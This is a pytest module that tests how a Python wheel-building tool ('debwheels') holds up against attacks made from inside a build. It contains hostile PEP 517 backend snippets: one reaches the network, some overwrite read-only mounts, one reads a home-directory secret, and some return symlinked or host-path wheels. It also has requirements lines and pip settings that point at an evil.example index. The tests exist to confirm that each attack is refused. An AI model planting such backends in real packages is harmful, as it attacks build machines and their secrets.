"""Attacks from inside a build, and on the inputs of 'debwheels build'.

The project under attack is "zevil": no dependencies, an in-tree PEP 517 backend
(``[build-system] requires = []``, ``backend-path = ["_backend"]``) whose
``get_requires_for_build_wheel`` returns ``[]``, so 'debwheels lock' (which probes it offline)
passes. It is locked once per module; each case copies it and replaces ``build_wheel`` with
an evil one (the lock does not hash the project's own tree). Its build closure is flit_core
and pyproject-hooks, so a build installs a wheel inside the container (pyproject-hooks needs
flit_core) and, built with -j 1, zevil comes after flit_core (so ``/wheels`` holds a wheel to attack).
A planted ``wheels-mirror/`` stands for an earlier release.

Cases:

1. ``build_wheel`` opens a socket to 1.1.1.1:443: the build fails and says it tried to reach
   the network.
2. ``build_wheel`` writes into the read-only mounts (``/wheels``: the wheels built earlier in
   the run; ``/src``: the project tree; ``/frontend``: pyproject_hooks; ``/in``: the build
   request): the write raises, the build fails, no host file changes.
3. ``build_wheel`` reads ``$HOME/secret.txt`` and the host's absolute path of it: neither is
   visible in the container; the build fails and the secret is nowhere in the project.
4. An edited requirements file (no hash, index options, editable, URL, range, an option after
   a pin, a pin the lock does not have) is refused by 'debwheels build' before anything is
   fetched or built (exit 4).
5. Ambient pip configuration (``PIP_INDEX_URL``, ``PIP_EXTRA_INDEX_URL``, ``PIP_FIND_LINKS``,
   ``PIP_CONFIG_FILE``, a user pip.conf) pointing at an evil index or a directory of evil
   wheels is ignored: the build gives the reference build's exact sha256s and its logs never
   mention them.
6. A tampered sdist in the cache is refused (exit 6) before it is unpacked.
7. ``build_wheel`` hands back a wheel that is a symlink to a host file, or returns a host path
   as its wheel's name: refused (exit 10); the host file keeps its place, mode and bytes.

Every refusal is checked for its exit code, one ``debwheels: error:`` line holding a specific
fragment (a failed build quotes its log's last lines after that line), no staged mirror, and
requirements/, wheels-mirror/ and the planted files unchanged.
"""

from __future__ import annotations

import os
import re
import secrets
import shutil
import stat
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from conftest import ROOT, Run, run_cli
from debwheels.config import cache_dir
from debwheels.fsutil import sha256_file
from debwheels.lock.graph import LockGraph
from debwheels.mirror.sums import parse_sums

from .conftest import refused, snapshot

pytestmark = [pytest.mark.network, pytest.mark.container, pytest.mark.root, pytest.mark.slow]

NAME = "zevil"  # sorts after flit-core: built when /wheels already holds a wheel
STEM = f"{NAME}-1.0"
WHEEL = f"{STEM}-py3-none-any.whl"
MARK = b"PW" + b"NED-by-zevil"  # what an evil write leaves; never literally in any source or log
EVIL_URL = "http://127.0.0.1:9/evil"

PYPROJECT = f"""[build-system]
requires = []
build-backend = "backend"
backend-path = ["_backend"]

[project]
name = "{NAME}"
version = "1.0"
description = "a project whose build backend attacks the builder"
dependencies = []

[tool.debwheels]
"""

BACKEND = '''"""A tiny in-tree PEP 517 backend: one module, a deterministic wheel."""
import base64
import hashlib
import zipfile

NAME, VERSION = "zevil", "1.0"
TAG = f"{NAME}-{VERSION}-py3-none-any.whl"
DIST = f"{NAME}-{VERSION}.dist-info"
MARK = b"PW" + b"NED-by-zevil"


def get_requires_for_build_wheel(config_settings=None):
    return []


def _wheel(wheel_directory, files):
    files = {
        **files,
        f"{DIST}/METADATA": f"Metadata-Version: 2.1\\nName: {NAME}\\nVersion: {VERSION}\\n".encode(),
        f"{DIST}/WHEEL": b"Wheel-Version: 1.0\\nGenerator: backend\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
    }
    record = []
    for name, data in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        record.append(f"{name},sha256={digest},{len(data)}\\n")
    record.append(f"{DIST}/RECORD,,\\n")
    files[f"{DIST}/RECORD"] = "".join(record).encode()
    with zipfile.ZipFile(f"{wheel_directory}/{TAG}", "w") as archive:
        for name, data in files.items():
            info = zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0))
            info.external_attr = 0o644 << 16
            archive.writestr(info, data)
    return TAG


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    return _wheel(wheel_directory, {"zevil/__init__.py": b'"""Demo."""\\n'})
'''

NETWORK = """
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    import socket

    socket.create_connection(("1.1.1.1", 443), timeout=10).close()
    return _wheel(wheel_directory, {"zevil/reached.txt": MARK})
"""

WRITE_MOUNT = """
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    import glob

    targets = sorted(glob.glob(@PATTERN@))
    if not targets:
        raise RuntimeError("nothing to overwrite at " + @PATTERN@)
    for path in targets:
        with open(path, "wb") as handle:
            handle.write(MARK)
    return _wheel(wheel_directory, {"zevil/overwrote.txt": MARK})
"""

READ_HOME = """
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    import os

    tried = [os.path.join(os.environ["HOME"], "secret.txt"), @HOST_PATH@]
    for path in tried:
        try:
            with open(path, "rb") as handle:
                return _wheel(wheel_directory, {"zevil/secret.txt": handle.read()})
        except OSError:
            pass
    raise FileNotFoundError(f"no secret at {tried}")
"""

SYMLINK_WHEEL = """
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    import os

    os.symlink(@HOST_PATH@, os.path.join(wheel_directory, TAG))
    return TAG
"""

HOST_PATH_WHEEL = """
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    return @HOST_PATH@
"""


def run(root: Path, *args: str, env: dict[str, str] | None = None) -> Run:
    return run_cli("-C", str(root), *args, env=env)


def make_project(root: Path) -> Path:
    """Project zevil with its in-tree backend, an empty requirements.in and a planted earlier release."""
    (root / "src" / NAME).mkdir(parents=True)
    (root / "src" / NAME / "__init__.py").write_text('"""Demo."""\n')
    (root / "_backend").mkdir()
    (root / "_backend" / "backend.py").write_text(BACKEND)
    (root / "pyproject.toml").write_text(PYPROJECT)
    (root / "requirements").mkdir()
    (root / "requirements" / "requirements.in").write_text("# no dependencies\n")
    mirror = root / "wheels-mirror"
    mirror.mkdir()
    shutil.copy2(ROOT / "wheels-mirror" / "click-8.5.1-py3-none-any.whl", mirror)
    (mirror / "sha256sums.txt").write_text("an earlier release, which no build may touch\n")
    shutil.copy2(ROOT / "Dockerfile", root / "Dockerfile")
    shutil.copy2(ROOT / "builder-lock.json", root / "builder-lock.json")
    return root


def evil(root: Path, code: str, **values: str) -> None:
    """Replace the backend's build_wheel by *code*; ``@KEY@`` placeholders become repr(value)."""
    for key, value in values.items():
        code = code.replace(f"@{key}@", repr(value))
    with open(root / "_backend" / "backend.py", "a") as handle:
        handle.write("\n" + code)


def watched(root: Path) -> list[Path]:
    return [root / "requirements", root / "wheels-mirror", root / "_backend", root / "src"]


def containing(root: Path, needle: bytes) -> list[str]:
    """Files under *root* whose bytes contain *needle*."""
    return [str(p) for p in root.rglob("*") if p.is_file() and not p.is_symlink() and needle in p.read_bytes()]


def sums(root: Path) -> dict[str, str]:
    """The staged mirror's sha256sums.txt as {file: sha256}."""
    path = root / ".debwheels" / "staged-mirror" / "sha256sums.txt"
    return parse_sums(path.read_bytes(), str(path))


def assert_error(done: Run, code: int, fragment: str, cause: str = "") -> str:
    """Exit *code*, exactly one ``debwheels: error:`` line holding *fragment* and the *cause*."""
    assert done.code == code, (done.code, done.out, done.err[-4000:])
    lines = done.err.strip().splitlines()
    at = [i for i, line in enumerate(lines) if line.startswith("debwheels: error: ")]
    assert len(at) == 1, done.err[-4000:]
    line = lines[at[0]]
    assert fragment in line and cause in line, line  # the first line says why, not only the quoted log
    if at[0] != len(lines) - 1:  # a failed build: the error line, then its log's last lines
        assert line.endswith("; last lines:"), done.err[-4000:]
    return line


def refused_build(
    root: Path,
    code: int,
    fragment: str,
    cause: str = "",
    env: dict[str, str] | None = None,
    extra: tuple[Path, ...] = (),
) -> Run:
    """'debwheels build' in *root* fails as :func:`assert_error` says, stages nothing and changes no watched file."""
    before = snapshot(*watched(root), *extra)
    done = run(root, "build", "--rebuild", "-j", "1", env=env)
    assert_error(done, code, fragment, cause)
    assert not (root / ".debwheels" / "staged-mirror").exists(), "a failed build staged a mirror"
    assert not list((root / ".debwheels" / "work" / "bookworm" / "wheels").glob(f"{NAME}-*")), (
        "the evil wheel was accepted"
    )
    assert snapshot(*watched(root), *extra) == before, "a refused build changed files"
    return done


@pytest.fixture(scope="module")
def locked(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Project zevil, locked once (needs PyPI for its build closure)."""
    root = make_project(tmp_path_factory.mktemp("locked") / NAME)
    done = run(root, "lock")
    assert done.code == 0, done.err[-4000:]
    graph = LockGraph.read(root / "requirements" / "lock.json")
    assert {p.name for p in graph.packages.values()} == {NAME, "flit-core", "pyproject-hooks"}
    assert graph.packages[graph.project].dynamic_requires == []
    return root


@dataclass(frozen=True)
class Reference:
    """A build of the locked project with no ambient configuration: its root and staged sha256sums."""

    root: Path
    sums: dict[str, str]

    def wheel(self, prefix: str) -> Path:
        return next((self.root / ".debwheels" / "staged-mirror").glob(f"{prefix}*.whl"))


@pytest.fixture(scope="module")
def reference(locked: Path, tmp_path_factory: pytest.TempPathFactory) -> Reference:
    root = tmp_path_factory.mktemp("reference") / NAME
    shutil.copytree(locked, root, symlinks=True)
    done = run(root, "build", "--rebuild", "-j", "1")
    assert done.code == 0, done.err[-4000:]
    built = Reference(root, sums(root))
    assert WHEEL in built.sums and built.wheel("flit_core-").name in built.sums
    return built


@pytest.fixture()
def project(locked: Path, tmp_path: Path) -> Path:
    """A fresh copy of the locked project."""
    root = tmp_path / NAME
    shutil.copytree(locked, root, symlinks=True)
    return root


# 1. The network


def test_a_build_backend_that_opens_a_socket_fails_and_says_so(project: Path) -> None:
    evil(project, NETWORK)
    refused_build(project, 10, f"building {STEM} tried to reach the network", "builds are offline")
    assert containing(project, MARK) == []


# 2. Writes outside the build directory


READ_ONLY_TARGETS = [
    "/wheels/flit_core-*.whl",  # a wheel built earlier in this run, about to be staged
    "/src/pyproject.toml",  # the project tree, exported for the build
    "/src/_backend/backend.py",
    "/frontend/pyproject_hooks/*.py",  # the PEP 517 frontend that runs every later build
    "/in/request.json",  # the build request
]


@pytest.mark.parametrize("pattern", READ_ONLY_TARGETS)
def test_a_build_backend_cannot_write_to_the_read_only_mounts(
    project: Path, reference: Reference, pattern: str
) -> None:
    evil(project, WRITE_MOUNT, PATTERN=pattern)
    refused_build(project, 10, f"building {STEM} failed", f"Read-only file system: '{pattern.split('*')[0]}")
    assert containing(project, MARK) == [], "an evil write reached the host"
    flit = next((project / ".debwheels" / "work" / "bookworm" / "wheels").glob("flit_core-*.whl"))
    assert sha256_file(flit) == reference.sums[flit.name], "the wheel built earlier in the run is intact"
    assert (
        project / ".debwheels" / "work" / "bookworm" / "src" / STEM / STEM / "pyproject.toml"
    ).read_text() == PYPROJECT


# 3. Reading the invoking user's home


def test_a_build_backend_cannot_read_the_home_of_the_user_running_debwheels(project: Path, tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir(mode=0o755)
    secret = f"secret-{secrets.token_hex(16)}"
    (home / "secret.txt").write_text(secret)
    (home / "secret.txt").chmod(0o644)  # readable by the build user, were it visible
    evil(project, READ_HOME, HOST_PATH=str(home / "secret.txt"))
    env = {"HOME": str(home), "DEBWHEELS_CACHE": str(cache_dir())}
    refused_build(project, 10, f"building {STEM} failed", "FileNotFoundError: no secret at", env, (home,))
    assert containing(project, secret.encode()) == [], "the secret leaked into the project"


# 4. Requirements files that could pull code from elsewhere


HEX = "0123456789abcdef" * 4
EDITS: dict[str, tuple[str, str, str]] = {
    "no-hash": ("requirements.txt", "mdurl==0.1.2\n", "mdurl needs --hash=sha256:<64 lowercase hex>"),
    "index-url": (
        "requirements.txt",
        "--index-url https://evil.example/simple\n",
        "option --index-url is not allowed",
    ),
    "extra-index-url": (
        "requirements.txt",
        "--extra-index-url https://evil.example/simple\n",
        "option --extra-index-url is not allowed",
    ),
    "editable": ("requirements.txt", "-e git+https://evil.example/x#egg=x\n", "option -e is not allowed"),
    "url": (
        "requirements.txt",
        "x @ https://evil.example/x.tar.gz\n",
        "URL requirement x @ https://evil.example/x.tar.gz is not allowed",
    ),
    "range": ("requirements.txt", f"mdurl>=0.1 --hash=sha256:{HEX}\n", "'mdurl>=0.1' is not pinned"),
    "option-after-a-pin": (
        "requirements.txt",
        f"mdurl==0.1.2 --hash=sha256:{HEX} --index-url https://evil.example/simple\n",
        "cannot parse 'mdurl==0.1.2",
    ),
    "find-links-in-build-requirements": (
        "build-requirements.txt",
        "--find-links https://evil.example/wheels\n",
        "option --find-links is not allowed",
    ),
    "unlocked-pin": (
        "requirements.txt",
        f"mdurl==0.1.2 --hash=sha256:{HEX}\n",
        "requirements.txt and lock.json disagree on the runtime closure (mdurl==0.1.2)",
    ),
}


@pytest.mark.parametrize("case", sorted(EDITS))
def test_an_edited_requirements_file_is_refused_before_anything_is_built(project: Path, case: str) -> None:
    name, line, fragment = EDITS[case]
    path = project / "requirements" / name
    path.write_text(path.read_text() + line)
    refused(project, ["build", "--rebuild", "-j", "1"], 4, fragment)
    assert not (project / ".debwheels" / "staged-mirror").exists()
    assert not (project / ".debwheels" / "work").exists(), "nothing was fetched or built"


# 5. Ambient pip configuration


def evil_links(where: Path, reference: Reference) -> Path:
    """A find-links directory of wheels named like the build requirement flit_core, with other content."""
    links = where / "evil-links"
    links.mkdir()
    flit = reference.wheel("flit_core-")
    for target in (links / flit.name, links / "flit_core-99.0-py3-none-any.whl"):
        shutil.copy2(flit, target)
        with zipfile.ZipFile(target, "a") as archive:
            archive.writestr("flit_core/evil.py", "raise SystemExit('evil flit_core')\n")
    return links


def pip_conf(path: Path, links: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f"[global]\nindex-url = {EVIL_URL}\nfind-links = {links}\n")
    return path


AMBIENT: dict[str, Callable[[Path, Path], dict[str, str]]] = {
    "PIP_INDEX_URL": lambda tmp, links: {"PIP_INDEX_URL": EVIL_URL},
    "PIP_EXTRA_INDEX_URL": lambda tmp, links: {"PIP_EXTRA_INDEX_URL": EVIL_URL},
    "PIP_FIND_LINKS": lambda tmp, links: {"PIP_FIND_LINKS": str(links)},
    "PIP_CONFIG_FILE": lambda tmp, links: {"PIP_CONFIG_FILE": str(pip_conf(tmp / "pip.conf", links))},
    "user-pip.conf": lambda tmp, links: {
        "HOME": str(pip_conf(tmp / "home" / ".config" / "pip" / "pip.conf", links).parents[2]),
        "XDG_CONFIG_HOME": str(tmp / "home" / ".config"),
        "DEBWHEELS_CACHE": str(cache_dir()),
    },
}


@pytest.mark.parametrize("variable", list(AMBIENT))
def test_ambient_pip_configuration_is_ignored(
    project: Path, reference: Reference, tmp_path: Path, variable: str
) -> None:
    links = evil_links(tmp_path, reference)
    env = AMBIENT[variable](tmp_path, links)
    before = snapshot(*watched(project), links)
    done = run(project, "build", "--rebuild", "-j", "1", env=env)
    assert done.code == 0, done.err[-4000:]
    assert sums(project) == reference.sums, "the ambient configuration changed what was built"
    assert snapshot(*watched(project), links) == before
    graph = LockGraph.read(project / "requirements" / "lock.json")
    logs = sorted((project / ".debwheels" / "logs").glob("*.log"))
    assert {p.name for p in logs} == {f"{p.name}-{p.version}.log" for p in graph.packages.values()}
    planted = [v for k, v in env.items() if k != "DEBWHEELS_CACHE"] + [EVIL_URL, str(links)]
    for log in logs:
        text = log.read_text()
        assert [v for v in planted if v in text] == [], log
        assert "Looking in indexes" not in text and "Downloading" not in text, log
        commands = [line for line in text.splitlines() if line.startswith("$ podman ")]
        assert len(commands) == 1, log
        assert re.findall(r" -e (PIP_\w+=\S*)", commands[0]) == ["PIP_CONFIG_FILE=/dev/null"], commands[0]
    hooks = next(p for p in logs if p.name.startswith("pyproject-hooks-")).read_text()
    flit = reference.wheel("flit_core-").name
    assert re.findall(r"^installing (\S+) sha256 [0-9a-f]{64} \(hash checked\)$", hooks, re.M) == [f"/wheels/{flit}"], (
        hooks
    )


# 6. A tampered cache


def test_a_tampered_sdist_in_the_cache_is_refused_before_it_is_unpacked(project: Path, tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    env = {"DEBWHEELS_CACHE": str(cache)}
    fetched = run(project, "fetch", env=env)
    assert fetched.code == 0, fetched.err[-4000:]
    node = LockGraph.read(project / "requirements" / "lock.json").by_name("pyproject-hooks")[0]
    assert node.sha256
    (sdist,) = (cache / "sdists" / node.sha256).iterdir()
    data = bytearray(sdist.read_bytes())
    data[len(data) // 2] ^= 0x01
    sdist.write_bytes(bytes(data))
    refused_build(project, 6, f"sha256 mismatch for pyproject-hooks {node.version} (cached)", env=env)
    assert not list((project / ".debwheels" / "work" / "bookworm" / "src").glob("pyproject-hooks-*")), "unpacked anyway"


# 7. The wheel the backend hands back must be a regular file inside its output directory


def private_wheel(where: Path) -> Path:
    """A host file the build must not reach: a zip that passes for a zevil wheel, mode 0600."""
    where.mkdir(mode=0o700)
    path = where / WHEEL
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(f"{STEM}.dist-info/METADATA", f"Metadata-Version: 2.1\nName: {NAME}\nVersion: 1.0\n")
        archive.writestr("private.txt", MARK.decode())
    path.chmod(0o600)
    return path


@pytest.mark.parametrize("attack", ["symlink", "host-path"])
def test_a_wheel_that_points_outside_the_output_directory_is_refused(
    project: Path, tmp_path: Path, attack: str
) -> None:
    target = private_wheel(tmp_path / "private")
    digest = sha256_file(target)
    evil(project, SYMLINK_WHEEL if attack == "symlink" else HOST_PATH_WHEEL, HOST_PATH=str(target))
    done = run(project, "build", "--rebuild", "-j", "1")
    staged = project / ".debwheels" / "staged-mirror"
    print(done.err[-2000:], sorted(p.name for p in staged.iterdir()) if staged.exists() else "(nothing staged)")
    assert target.is_file(), "the host file was moved away"
    assert stat.S_IMODE(os.stat(target).st_mode) == 0o600, "the host file's mode was changed"
    assert sha256_file(target) == digest
    assert_error(done, 10, f"building {STEM}")
    assert not staged.exists(), "a wheel from outside the build was staged"
    assert containing(project, MARK) == []
